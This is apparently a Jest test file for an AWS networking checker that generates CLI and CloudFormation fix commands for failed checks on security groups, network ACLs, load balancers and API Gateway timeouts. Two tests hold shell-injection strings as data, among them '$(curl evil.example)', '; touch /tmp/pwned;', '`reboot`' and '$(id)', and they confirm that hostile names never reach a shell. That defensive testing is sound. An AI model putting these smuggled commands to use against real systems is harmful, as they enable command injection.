import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { albSecurityGroupSources } from '../../../lambda/checks/alb-security-group-sources';
import { CHECKS } from '../../../lambda/checks/index';
import { integrationTimeout } from '../../../lambda/checks/integration-timeout';
import { lbCrossZone } from '../../../lambda/checks/lb-cross-zone';
import { nlbTargetSecurityGroups } from '../../../lambda/checks/nlb-target-security-groups';
import { stageDeploymentDrift } from '../../../lambda/checks/stage-deployment-drift';
import { subnetNetworkAcls } from '../../../lambda/checks/subnet-network-acls';
import { tgEmptyAz } from '../../../lambda/checks/tg-empty-az';
import { collected } from '../../../lambda/domain/types';
import { attachFixes, FIXES } from '../../../lambda/fixes';
import { sourceRange } from '../../../lambda/fixes/ids';
import { shellQuote } from '../../../lambda/fixes/shell';
import { shellWords } from '../../support/aws-cli-model';
import {
  ACL_ID,
  ALB_SG,
  aclDenying8080,
  albWith,
  CASES,
  crossZoneOff,
  drifted,
  failing,
  findingsOf,
  NLB_SG,
  nlbInOwnGroup,
  nlbTargetsWith,
  oneZoneServing,
  restTiming,
  TARGET_SG,
} from '../../support/fix-worlds';
import { ALB_ARN, anIpPermission, NLB_ARN, nlbScenario, TG_ARN } from '../../support/inventory-builders';

describe('fix suggestions', () => {
  it.each(CASES)(
    '$name: every FAIL carries a fix, and the healthy twin none',
    ({ check, broken, healthy }) => {
      const failures = failing(findingsOf(check, broken()));
      expect(failures.length).toBeGreaterThan(0);
      for (const finding of failures) {
        expect(finding.fix?.commands.length).toBeGreaterThan(0);
        expect(finding.fix?.cloudFormation.length).toBeGreaterThan(0);
      }
      const twin = findingsOf(check, healthy());
      expect(twin.length).toBeGreaterThan(0);
      expect(failing(twin)).toEqual([]);
      expect(twin.filter((finding) => finding.fix !== undefined)).toEqual([]);
    },
  );

  it('admits exactly the blocked NLB node in the targets security group, on the target port', () => {
    const [finding] = failing(
      findingsOf(
        nlbTargetSecurityGroups,
        nlbTargetsWith([anIpPermission({ fromPort: 8080, toPort: 8080, cidrs: ['10.0.1.0/24'] })]).build(),
      ),
    );
    expect(finding?.fix).toEqual({
      commands: [
        `aws ec2 authorize-security-group-ingress --region 'us-east-1' --group-id '${TARGET_SG}' --ip-permissions ` +
          `'[{"IpProtocol":"tcp","FromPort":8080,"ToPort":8080,"IpRanges":[{"CidrIp":"10.0.2.10/32"}]}]'`,
      ],
      cloudFormation: [
        `AWS::EC2::SecurityGroup ${TARGET_SG}: add to SecurityGroupIngress {IpProtocol: tcp, FromPort: 8080, ToPort: 8080, CidrIp: 10.0.2.10/32}`,
      ],
    });
  });

  it("turns PrivateLink enforcement off on an NLB whose groups cannot name API Gateway's addresses", () => {
    const [finding] = failing(findingsOf(nlbTargetSecurityGroups, nlbInOwnGroup('on')));
    expect(finding?.resourceArn).toBe(NLB_ARN);
    expect(finding?.fix).toEqual({
      commands: [
        `aws elbv2 set-security-groups --region 'us-east-1' --load-balancer-arn '${NLB_ARN}' ` +
          `--security-groups '["${NLB_SG}"]' --enforce-security-group-inbound-rules-on-private-link-traffic 'off'`,
      ],
      cloudFormation: [
        'AWS::ElasticLoadBalancingV2::LoadBalancer orders-nlb: EnforceSecurityGroupInboundRulesOnPrivateLinkTraffic: "off"',
      ],
    });
  });

  it('with V2 link interfaces blocked too, also admits them in the NLB group', () => {
    const [finding] = failing(findingsOf(nlbTargetSecurityGroups, nlbInOwnGroup('on')));
    if (!finding) throw new Error('expected a FAIL');
    const withLink = (cidr: string) => ({
      ...finding,
      evidence: {
        ...finding.evidence,
        ports: [
          {
            port: 80,
            sources: [
              { source: 'API Gateway through PrivateLink', cidr: '0.0.0.0/0', status: 'blocked' },
              { source: 'VPC link in us-east-1a', cidr, status: 'blocked' },
            ],
          },
        ],
      },
    });
    expect(attachFixes([withLink('10.0.21.0/24')])[0]?.fix?.commands).toEqual([
      expect.stringMatching(/^aws elbv2 set-security-groups .*'off'$/),
      `aws ec2 authorize-security-group-ingress --region 'us-east-1' --group-id '${NLB_SG}' --ip-permissions ` +
        `'[{"IpProtocol":"tcp","FromPort":80,"ToPort":80,"IpRanges":[{"CidrIp":"10.0.21.0/24"}]}]'`,
    ]);
    // One sender it cannot name exactly: no half fix.
    expect(attachFixes([withLink('somewhere')])[0]?.fix).toBeUndefined();
  });

  it("admits the VPC link's blocked subnet in the ALB's group, on the listener port", () => {
    const [finding] = failing(
      findingsOf(
        albSecurityGroupSources,
        albWith([anIpPermission({ fromPort: 443, toPort: 443, cidrs: ['10.0.21.0/24'] })]).build(),
      ),
    );
    expect(finding?.resourceArn).toBe(ALB_ARN);
    expect(finding?.fix?.commands).toEqual([
      `aws ec2 authorize-security-group-ingress --region 'us-east-1' --group-id '${ALB_SG}' --ip-permissions ` +
        `'[{"IpProtocol":"tcp","FromPort":443,"ToPort":443,"IpRanges":[{"CidrIp":"10.0.22.0/24"}]}]'`,
    ]);
    // Only the ports with a blocked sender, and no fix when every sender is admitted.
    if (!finding) throw new Error('expected a FAIL');
    const withPorts = (ports: { port: number; sources: { cidr: string; status: string }[] }[]) =>
      attachFixes([{ ...finding, evidence: { ...finding.evidence, ports } }])[0]?.fix;
    const fix = withPorts([
      { port: 80, sources: [{ cidr: '10.0.21.0/24', status: 'allowed' }] },
      { port: 443, sources: [{ cidr: '2600:1f18:abcd:22::/64', status: 'blocked' }] },
    ]);
    expect(fix?.commands).toEqual([
      `aws ec2 authorize-security-group-ingress --region 'us-east-1' --group-id '${ALB_SG}' --ip-permissions ` +
        `'[{"IpProtocol":"tcp","FromPort":443,"ToPort":443,"Ipv6Ranges":[{"CidrIpv6":"2600:1f18:abcd:22::/64"}]}]'`,
    ]);
    expect(
      withPorts([{ port: 443, sources: [{ cidr: '10.0.21.0/24', status: 'allowed' }] }]),
    ).toBeUndefined();
  });

  it('turns cross-zone on for the target group, and redeploys a REST stage after raising its timeout', () => {
    const [crossZone] = failing(findingsOf(lbCrossZone, oneZoneServing()));
    expect(crossZone?.fix?.commands).toEqual([
      `aws elbv2 modify-target-group-attributes --region 'us-east-1' --target-group-arn '${TG_ARN}' ` +
        `--attributes '[{"Key":"load_balancing.cross_zone.enabled","Value":"true"}]'`,
    ]);
    const [timeout] = failing(findingsOf(integrationTimeout, restTiming(10_000, 9_500)));
    expect(timeout?.fix?.commands).toEqual([
      "aws apigateway update-integration --region 'us-east-1' --rest-api-id 'a1b2c3' --resource-id 'r00t' " +
        `--http-method 'GET' --patch-operations '[{"op":"replace","path":"/timeoutInMillis","value":"29000"}]'`,
      "aws apigateway create-deployment --region 'us-east-1' --rest-api-id 'a1b2c3' --stage-name 'prod'",
    ]);
  });

  it('allows each blocked flow in the ACL once, numbered before the rule that denies it', () => {
    const [finding] = failing(findingsOf(subnetNetworkAcls, aclDenying8080()));
    const rule = (number: number, cidr: string) =>
      `aws ec2 create-network-acl-entry --region 'us-east-1' --network-acl-id '${ACL_ID}' --rule-number '${number}' ` +
      `--ingress --protocol '6' --port-range '{"From":8080,"To":8080}' --cidr-block '${cidr}' --rule-action 'allow'`;
    // From both load balancer subnets (cross-zone is on): rules 99 and 98, both before the deny at 100.
    expect(finding?.fix?.commands).toEqual([rule(99, '10.0.1.0/24'), rule(98, '10.0.2.0/24')]);
    const full = {
      ruleNumbers: { inbound: [1, 2, 3], outbound: [] },
      blockedFlows: [
        { egress: false, peerCidr: '10.0.1.0/24', fromPort: 8080, toPort: 8080, denyingRule: 3 },
      ],
    };
    if (!finding) throw new Error('expected a FAIL');
    // No free number before the deny: no fix rather than a rule that would come too late.
    expect(attachFixes([{ ...finding, evidence: full }])[0]?.fix).toBeUndefined();
  });

  it('gives no fix where no command can remove the cause', () => {
    // Targets slower than the highest timeout allowed: only faster targets help.
    expect(failing(findingsOf(integrationTimeout, restTiming(10_000, 28_000)))[0]?.fix).toBeUndefined();
    // A REST timeout above 29 s is a raised quota: never lowered.
    expect(failing(findingsOf(integrationTimeout, restTiming(40_000, 39_000)))[0]?.fix).toBeUndefined();
    // No zone has a target: cross-zone load balancing has nothing to send to.
    const empty = nlbScenario({ targetGroup: { ...crossZoneOff, targets: collected([]) } }).build();
    const emptyFailures = failing(findingsOf(tgEmptyAz, empty));
    expect(emptyFailures.length).toBeGreaterThan(0);
    expect(emptyFailures.filter((finding) => finding.fix)).toEqual([]);
  });

  it('gives no fix when the evidence is not in the shape the fix reads', () => {
    const [finding] = failing(findingsOf(lbCrossZone, oneZoneServing()));
    if (!finding) throw new Error('expected a FAIL');
    const reshaped = { ...finding, evidence: { crossZone: { enabled: false } } };
    expect(attachFixes([reshaped])[0]?.fix).toBeUndefined();
    const sgFinding = failing(
      findingsOf(
        nlbTargetSecurityGroups,
        nlbTargetsWith([anIpPermission({ fromPort: 8080, toPort: 8080, cidrs: ['10.0.1.0/24'] })]).build(),
      ),
    )[0];
    if (!sgFinding) throw new Error('expected a FAIL');
    const { blockedCidrs: _dropped, ...withoutAddresses } = sgFinding.evidence;
    expect(attachFixes([{ ...sgFinding, evidence: withoutAddresses }])[0]?.fix).toBeUndefined();
    // A blocked sender that is everyone (a /0) is never opened by a printed command.
    const everyone = {
      ...sgFinding,
      evidence: {
        ...sgFinding.evidence,
        blockedCidrs: ['0.0.0.0/0'],
      },
    };
    expect(attachFixes([everyone])[0]?.fix).toBeUndefined();
  });

  it('refuses ids and ARNs of another shape, so a hostile name cannot reach the shell', () => {
    const [finding] = failing(
      findingsOf(
        nlbTargetSecurityGroups,
        nlbTargetsWith([anIpPermission({ fromPort: 8080, toPort: 8080, cidrs: ['10.0.1.0/24'] })]).build(),
      ),
    );
    if (!finding) throw new Error('expected a FAIL');
    const hostileGroup = `sg-0123'; touch /tmp/pwned; echo '`;
    expect(
      attachFixes([{ ...finding, evidence: { ...finding.evidence, securityGroups: [hostileGroup] } }])[0]
        ?.fix,
    ).toBeUndefined();
    const hostileCidr = {
      ...finding.evidence,
      blockedCidrs: ['10.0.0.1/32$(id)'],
    };
    expect(attachFixes([{ ...finding, evidence: hostileCidr }])[0]?.fix).toBeUndefined();
    const [crossZone] = failing(findingsOf(lbCrossZone, oneZoneServing()));
    if (!crossZone) throw new Error('expected a FAIL');
    const hostileArn = `${TG_ARN}$(curl evil.example)`;
    expect(attachFixes([{ ...crossZone, resourceArn: hostileArn }])[0]?.fix).toBeUndefined();
    expect(attachFixes([{ ...crossZone, region: "us-east-1' ; reboot ; '" }])[0]?.fix).toBeUndefined();
    const [drift] = failing(findingsOf(stageDeploymentDrift, drifted));
    if (!drift?.fix) throw new Error('expected a FAIL with a fix');
    expect(attachFixes([{ ...drift, resourceArn: `${drift.resourceArn}$(id)` }])[0]?.fix).toBeUndefined();
    const [timeout] = failing(findingsOf(integrationTimeout, restTiming(10_000, 9_500)));
    if (!timeout?.fix) throw new Error('expected a FAIL with a fix');
    const otherStage = { ...timeout, apis: [{ apiId: 'a1b2c3', stage: "prod'`reboot`'" }] };
    expect(attachFixes([otherStage])[0]?.fix).toBeUndefined();
    const [acl] = failing(findingsOf(subnetNetworkAcls, aclDenying8080()));
    if (!acl?.fix) throw new Error('expected a FAIL with a fix');
    expect(
      attachFixes([{ ...acl, resourceArn: acl.resourceArn.replace(ACL_ID, 'acl-1; id') }])[0]?.fix,
    ).toBeUndefined();
    const [privateLink] = failing(findingsOf(nlbTargetSecurityGroups, nlbInOwnGroup('on')));
    if (!privateLink?.fix) throw new Error('expected a FAIL with a fix');
    const hostileGroups = { ...privateLink.evidence, securityGroups: [NLB_SG, 'sg-1 --debug'] };
    expect(attachFixes([{ ...privateLink, evidence: hostileGroups }])[0]?.fix).toBeUndefined();
    const albArn = { ...privateLink, resourceArn: privateLink.resourceArn.replace('/net/', '/app/') };
    expect(attachFixes([albArn])[0]?.fix).toBeUndefined();
    expect(sourceRange('10.1')).toBeUndefined();
    expect(sourceRange('::/0')).toBeUndefined();
    expect(sourceRange('10.0.1.7/24')).toEqual({ family: 'ipv4', cidr: '10.0.1.0/24' });
  });

  it('quotes every value so the shell hands it over unchanged and runs nothing', () => {
    const dir = mkdtempSync(join(tmpdir(), 'fix-quote-'));
    const marker = join(dir, 'ran');
    const hostile = [
      `it's`,
      `$(touch ${marker})`,
      `\`touch ${marker}\``,
      `a\nb; touch ${marker}`,
      `'\\''`,
      '$HOME *',
    ];
    expect(shellWords(`aws ${hostile.map(shellQuote).join(' ')}`)).toEqual(['aws', ...hostile]);
    expect(existsSync(marker)).toBe(false);
  });

  describe('IPv6 senders, outbound flows and the default deny', () => {
    const nlbNodeBlocked = () => {
      const [finding] = failing(
        findingsOf(
          nlbTargetSecurityGroups,
          nlbTargetsWith([anIpPermission({ fromPort: 8080, toPort: 8080, cidrs: ['10.0.1.0/24'] })]).build(),
        ),
      );
      if (!finding) throw new Error('expected a FAIL');
      return finding;
    };

    it('admits an IPv6 sender by its range, beside an IPv4 one, in the command and the template line', () => {
      const finding = nlbNodeBlocked();
      const mixed = {
        ...finding,
        evidence: { ...finding.evidence, blockedCidrs: ['10.0.2.10', '2600:1f18:abcd:12::7/64'] },
      };
      const fix = attachFixes([mixed])[0]?.fix;
      expect(fix?.commands).toEqual([
        `aws ec2 authorize-security-group-ingress --region 'us-east-1' --group-id '${TARGET_SG}' --ip-permissions ` +
          `'[{"IpProtocol":"tcp","FromPort":8080,"ToPort":8080,"IpRanges":[{"CidrIp":"10.0.2.10/32"}],"Ipv6Ranges":[{"CidrIpv6":"2600:1f18:abcd:12::/64"}]}]'`,
      ]);
      expect(fix?.cloudFormation).toContain(
        `AWS::EC2::SecurityGroup ${TARGET_SG}: add to SecurityGroupIngress {IpProtocol: tcp, FromPort: 8080, ToPort: 8080, CidrIpv6: 2600:1f18:abcd:12::/64}`,
      );
      expect(sourceRange('2600:1f18:abcd:12::7')).toEqual({
        family: 'ipv6',
        cidr: '2600:1f18:abcd:12::7/128',
      });
    });

    it('allows an outbound IPv6 flow denied only by the default rule with the highest free number', () => {
      const [finding] = failing(findingsOf(subnetNetworkAcls, aclDenying8080()));
      if (!finding) throw new Error('expected a FAIL');
      const evidence = {
        ruleNumbers: { inbound: [100], outbound: [32766] },
        blockedFlows: [
          // The same flow seen from two subnets behind the ACL: one rule, before the lower deny.
          {
            egress: true,
            peerCidr: '2600:1f18:abcd:12::/64',
            fromPort: 1024,
            toPort: 65535,
            denyingRule: null,
          },
          {
            egress: true,
            peerCidr: '2600:1f18:abcd:12::/64',
            fromPort: 1024,
            toPort: 65535,
            denyingRule: null,
          },
        ],
      };
      const fix = attachFixes([{ ...finding, evidence }])[0]?.fix;
      expect(fix?.commands).toEqual([
        `aws ec2 create-network-acl-entry --region 'us-east-1' --network-acl-id '${ACL_ID}' --rule-number '32765' ` +
          `--egress --protocol '6' --port-range '{"From":1024,"To":65535}' --ipv6-cidr-block '2600:1f18:abcd:12::/64' --rule-action 'allow'`,
      ]);
      expect(fix?.cloudFormation).toEqual([
        `AWS::EC2::NetworkAclEntry in ${ACL_ID}: {NetworkAclId: ${ACL_ID}, RuleNumber: 32765, Egress: true, Protocol: 6, PortRange: {From: 1024, To: 65535}, Ipv6CidrBlock: 2600:1f18:abcd:12::/64, RuleAction: allow}`,
      ]);
    });

    it('numbers a flow denied by a rule in one subnet and the default in another before the rule', () => {
      const [finding] = failing(findingsOf(subnetNetworkAcls, aclDenying8080()));
      if (!finding) throw new Error('expected a FAIL');
      const flow = { egress: false, peerCidr: '10.0.1.0/24', fromPort: 8080, toPort: 8080 };
      const evidence = {
        ruleNumbers: { inbound: [50], outbound: [] },
        blockedFlows: [
          { ...flow, denyingRule: 50 },
          { ...flow, denyingRule: null },
        ],
      };
      expect(attachFixes([{ ...finding, evidence }])[0]?.fix?.commands).toEqual([
        expect.stringContaining("--rule-number '49' --ingress"),
      ]);
    });
  });

  it('gives no fix for a timeout already at the quota, a bad Region, or a zone evidence it cannot read', () => {
    // At the 29 s quota with the targets at 27 s: no higher timeout to set.
    const [atQuota] = failing(findingsOf(integrationTimeout, restTiming(29_000, 27_000)));
    expect(atQuota).toMatchObject({ status: 'FAIL', evidence: { timeoutMs: 29_000 } });
    expect(atQuota?.fix).toBeUndefined();
    const [timeout] = failing(findingsOf(integrationTimeout, restTiming(10_000, 9_500)));
    if (!timeout?.fix) throw new Error('expected a FAIL with a fix');
    expect(attachFixes([{ ...timeout, region: 'us-east-1; id' }])[0]?.fix).toBeUndefined();
    expect(attachFixes([{ ...timeout, evidence: { timeoutMs: '10000' } }])[0]?.fix).toBeUndefined();
    const [crossZone] = failing(findingsOf(lbCrossZone, oneZoneServing()));
    if (!crossZone?.fix) throw new Error('expected a FAIL with a fix');
    // The attribute is set on a target group: a finding on another resource type gets no command.
    const onBalancer = { ...crossZone, resourceType: 'AWS::ElasticLoadBalancingV2::LoadBalancer' };
    expect(attachFixes([onBalancer])[0]?.fix).toBeUndefined();
    const [blocked] = failing(findingsOf(nlbTargetSecurityGroups, nlbInOwnGroup('on')));
    if (!blocked?.fix) throw new Error('expected a FAIL with a fix');
    expect(attachFixes([{ ...blocked, region: 'us-east-1; id' }])[0]?.fix).toBeUndefined();
    const empty = nlbScenario({ targetGroup: { ...crossZoneOff, targets: collected([]) } }).build();
    const [emptyZone] = failing(findingsOf(tgEmptyAz, empty));
    if (!emptyZone) throw new Error('expected a FAIL');
    expect(attachFixes([{ ...emptyZone, evidence: { emptyZones: 'us-east-1b' } }])[0]?.fix).toBeUndefined();
  });

  it('has fixes only for check ids that exist', () => {
    const ids = new Set(CHECKS.map((check) => check.id));
    expect(Object.keys(FIXES).filter((id) => !ids.has(id))).toEqual([]);
  });
});
